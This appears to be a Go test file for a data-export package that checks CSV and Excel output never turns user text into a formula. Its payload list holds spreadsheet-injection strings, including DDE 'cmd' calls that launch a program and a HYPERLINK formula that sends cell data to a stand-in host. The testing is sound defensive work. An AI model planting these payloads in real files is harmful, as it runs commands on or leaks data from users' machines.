package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"qunxiang/core"
	"qunxiang/core/export"
	"qunxiang/sdk"
	"qunxiang/sdk/table"
)

// payloads are 300 cells that some spreadsheet would run, or that try to get past a
// guard: every starting character with blanks, quotes, separators and line breaks
// before it. After OWASP, "CSV Injection".
func payloads() []string {
	starts := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"}
	bodies := []string{"1+1", "cmd|'/c calc'!A1", `HYPERLINK("http://x.example?"&A1,"open")`, "SUM(A1:A9)", "2+5+cmd|' /C calc'!A0"}
	var out []string
	for _, b := range bodies {
		for _, s := range starts {
			out = append(out, s+b, "a;"+s+b, "a,"+s+b, "a\t"+s+b, `"`+s+b)
		}
	}
	for _, b := range bodies {
		out = append(out, "'="+b, " ="+b, "\u00a0="+b, "''="+b, "a;'="+b)
	}
	return out
}

// TestNothingInAListIsAFormula reads lists the way programs do that split by comma,
// semicolon or tab, with and without regard to quotes: no cell of text starts a formula.
func TestNothingInAListIsAFormula(t *testing.T) {
	t.Parallel()
	all := payloads()
	if len(all) < 300 {
		t.Fatalf("only %d payloads", len(all))
	}
	in := ofTexts(all)
	for _, o := range []export.ListOptions{{Encoding: export.UTF8, Columns: []string{"text", "kind"}}, {Encoding: export.GBK, Columns: []string{"text"}}} {
		var b bytes.Buffer
		if err := export.List(t.Context(), &b, in, o); err != nil {
			t.Fatal(err)
		}
		if o.Encoding == export.GBK {
			continue // the same text in another encoding; written without an error
		}
		rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
		if err != nil || len(rows) != len(all)+1 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for i, r := range rows[1:] {
			for _, cell := range []string{r[0], r[2], r[3], r[4]} {
				if runs(cell) {
					t.Errorf("%q is written as the formula %q", all[i], cell)
				}
				if strings.ReplaceAll(export.Plain(cell), "\r\n", "\n") != strings.ReplaceAll(all[i], "\r\n", "\n") {
					t.Errorf("%q comes back as %q", all[i], export.Plain(cell))
				}
				for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;\t", r) }) {
					if runs(strings.Trim(part, `"`)) {
						t.Errorf("%q has the formula %q for a program that splits otherwise", all[i], part)
					}
				}
			}
		}
	}
}

func runs(cell string) bool {
	cell = strings.TrimLeft(cell, " \u00a0")
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") || strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "＋") ||
		strings.HasPrefix(cell, "－") || strings.HasPrefix(cell, "＠")
}

func ofTexts(all []string) export.ListInput {
	keys := &core.Dict{}
	in := export.ListInput{Keys: keys, Lang: sdk.EN, Seg: &core.Segmentation{}}
	codes := make([]uint32, len(all))
	for i, p := range all {
		keys.AppendString(p)
		in.Seg.Customers = append(in.Seg.Customers, uint32(i))
		in.Seg.Label = append(in.Seg.Label, int32(i))
		in.Seg.Segments = append(in.Seg.Segments, core.Segment{ID: i + 1, Name: sdk.Text{EN: p}})
		codes[i] = uint32(i)
	}
	in.Extra = []table.Column{
		{Name: "text", Kind: table.String, Strings: all},
		{Name: "kind", Kind: table.Category, Dict: all, Codes: codes},
	}
	return in
}

func TestNothingInAWorkbookIsAFormula(t *testing.T) {
	t.Parallel()
	all := payloads()
	var b bytes.Buffer
	if err := export.List(t.Context(), &b, ofTexts(all), export.ListOptions{Format: export.XLSX, Columns: []string{"text", "kind"}}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	sheet := f.GetSheetName(0)
	for i := range all {
		for col := range 5 {
			cell, err := excelize.CoordinatesToCellName(col+1, i+2)
			if err != nil {
				t.Fatal(err)
			}
			formula, err := f.GetCellFormula(sheet, cell)
			if formula != "" || err != nil {
				t.Errorf("%s is the formula %q (%v)", cell, formula, err)
			}
			got, err := f.GetCellValue(sheet, cell)
			if col != 1 && (err != nil || strings.ReplaceAll(got, "\r", "") != strings.ReplaceAll(all[i], "\r", "")) {
				t.Errorf("%s is %q, want %q (%v)", cell, got, all[i], err)
			}
		}
	}
}

func FuzzSafe(f *testing.F) {
	for _, p := range payloads() {
		f.Add(p)
	}
	f.Add("普通文字, 'quoted'")
	f.Fuzz(func(t *testing.T, s string) {
		s = strings.ToValidUTF8(s, "�")
		safe := export.Safe(s)
		if runs(safe) {
			t.Errorf("Safe(%q) = %q", s, safe)
		}
		if back := export.Plain(safe); back != s {
			t.Errorf("Plain(Safe(%q)) = %q", s, back)
		}
	})
}
